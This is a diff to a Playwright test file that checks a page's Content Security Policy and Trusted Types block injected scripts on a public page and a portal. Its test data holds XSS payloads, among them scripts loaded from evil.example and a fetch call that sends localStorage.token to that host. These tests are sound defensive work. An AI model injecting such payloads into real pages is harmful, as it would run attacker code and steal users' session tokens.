@@ -129,7 +129,7 @@ test('hostile text in every field runs on no screen (SEC13)', async () => {
   expect(new Set(shown).size, `only ${shown.join()} show payloads`).toBeGreaterThan(15);
 }, 240_000);
 
-test('the payloads work where HTML is not escaped, and the policy alone stops them', async () => {
+test('the payloads work where HTML is not escaped, and the policy alone stops them (SEC13)', async () => {
   const context = await contextOf(null);
   const unsafe = await watch(context);
   let ran = 0;
@@ -157,5 +157,64 @@ test('the payloads work where HTML is not escaped, and the policy alone stops th
   expect(protectedPage.seen.filter((line) => line.startsWith('ran'))).toEqual([]);
   expect(protectedPage.seen.filter((line) => line.startsWith('blocked')).length).toBeGreaterThan(0);
   await expect.poll(() => reports.length).toBeGreaterThan(0);
+  await context.close();
+});
+
+/** What a page would do with markup of an attacker: scripts in it and from elsewhere, before and after it has loaded. */
+const foreign = 'https://evil.example/xss.js';
+const stolen = 'fetch("https://evil.example/?" + localStorage.token)';
+const scripts = `<script>xss()</script><script type="module">xss(); ${stolen}</script>
+<script src="${foreign}"></script><script src="//evil.example/xss.js" async></script>
+<script type="module" src="${foreign}"></script><script src="data:text/javascript,xss()"></script>
+<link rel="modulepreload" href="${foreign}"><img src="x" onerror="xss(); ${stolen.replaceAll('"', "'")}">`;
+
+test.each([
+  ['a public page', '/about'],
+  ['the portal', '/portal'],
+])('unescaped scripts in %s are blocked by its policy alone (SEC13)', async (_name, path) => {
+  const context = await contextOf(t.admin);
+  const { page, seen } = await watch(context);
+  const asked: string[] = [];
+  await context.route('https://evil.example/**', (route) => {
+    asked.push(route.request().url());
+    return route.fulfill({ contentType: 'text/javascript', body: 'xss()' });
+  });
+  await page.route(`**${path}`, async (route) => {
+    const response = await route.fetch();
+    const body = (await response.text()).replace('</body>', `${scripts}</body>`);
+    expect(body).toContain(foreign);
+    await route.fulfill({ response, body });
+  });
+  await page.goto(origin + path);
+  await page.waitForLoadState('load');
+  // Markup that a script of ours would insert.
+  await page.evaluate(
+    ([html = '', url = '']) => {
+      const add = (fill: (script: HTMLScriptElement) => void) => {
+        const script = document.createElement('script');
+        try {
+          fill(script);
+          document.body.append(script);
+        } catch {
+          // Trusted Types refuse the assignment itself.
+        }
+      };
+      add((script) => {
+        script.textContent = 'xss()';
+      });
+      add((script) => {
+        script.src = url;
+      });
+      try {
+        document.body.insertAdjacentHTML('beforeend', html);
+      } catch {}
+    },
+    [scripts, foreign],
+  );
+  await page.waitForTimeout(300);
+  expect(seen.filter((line) => line.startsWith('ran'))).toEqual([]);
+  // Nothing left the browser: no script came, and no token went.
+  expect(asked).toEqual([]);
+  expect(seen.filter((line) => line.startsWith('blocked')).length).toBeGreaterThan(5);
   await context.close();
 });
